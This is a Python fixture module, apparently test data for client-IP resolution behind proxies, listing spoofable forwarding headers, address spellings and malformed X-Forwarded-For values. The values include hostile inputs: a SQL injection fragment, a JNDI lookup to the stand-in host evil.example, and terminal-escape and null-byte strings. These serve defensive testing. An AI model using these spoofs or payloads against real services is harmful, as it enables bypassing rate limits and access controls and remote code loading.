"""What stands in front of a client's address. Sources: RFC 7239, section 6; Werkzeug's, nginx's and cloud balancers'
habits; CVE-2023-27100, CVE-2024-47070; better-auth #7470."""

# Headers with which an attacker claims another address, a new one (`{n}`) each time.
SPOOFS = [
    {"HTTP_X_FORWARDED_FOR": "203.0.113.{n}"},
    {"HTTP_X_REAL_IP": "203.0.113.{n}"},
    {"HTTP_FORWARDED": "for=203.0.113.{n}"},
    {"HTTP_CF_CONNECTING_IP": "203.0.113.{n}"},
    {"HTTP_CF_CONNECTING_IPV6": "2001:db8:{n}::1"},
    {"HTTP_TRUE_CLIENT_IP": "203.0.113.{n}"},
    {"HTTP_X_CLIENT_IP": "203.0.113.{n}"},
    {"HTTP_X_CLUSTER_CLIENT_IP": "203.0.113.{n}"},
    {"HTTP_X_ORIGINATING_IP": "203.0.113.{n}"},
    {"HTTP_X_REMOTE_ADDR": "203.0.113.{n}"},
    {"HTTP_REMOTE_ADDR": "203.0.113.{n}"},
    {"HTTP_FASTLY_CLIENT_IP": "203.0.113.{n}"},
    {"HTTP_CLIENT_IP": "203.0.113.{n}"},
    {"HTTP_VIA": "1.1 203.0.113.{n}"},
    {"HTTP_X_FORWARDED_FOR": "203.0.113.{n}", "HTTP_X_REAL_IP": "203.0.113.{n}", "HTTP_FORWARDED": "for=203.0.113.{n}"},
]

# Spellings of addresses, as Azure, IIS, HAProxy and servers on link-local addresses write them.
SPELT = {
    "1.2.3.4:99": "1.2.3.4",
    "1.2.3.4:0": "1.2.3.4",
    " 1.2.3.4:65535 ": "1.2.3.4",
    "[::1]:80": "::1",
    "[2001:db8::1]": "2001:db8::1",
    "[2001:db8::1]:5678": "2001:db8::1",
    "[2001:DB8:0::1]:5678": "2001:db8::1",
    "::ffff:1.2.3.4": "1.2.3.4",
    "[::ffff:1.2.3.4]:99": "1.2.3.4",
    "fe80::1%eth0": "fe80::1",
    "[fe80::1%25eth0]:443": "fe80::1",
}

# Values of X-Forwarded-For that name no client.
ODD = [
    "",
    ",",
    " , ",
    "unknown",
    "_hidden",
    "localhost",
    "2001:db8:::1",
    "999.1.1.1",
    "1.2.3",
    "1.2.3.4.5",
    "0x7f.1",
    "2130706433",
    "010.0.0.1",
    "1.2.3.4/24",
    "1.2.3.4;",
    "' OR 1=1",
    "1.2.3.4\t",
    '"x, 198.51.100.7',
    '6.6.6.6, "x, 198.51.100.7',
    "\x1b[2J",
    "1.2.3.4\x00",
    "\xff\xfe",
    "${jndi:ldap://evil.example}",
    "a" * 5000,
]
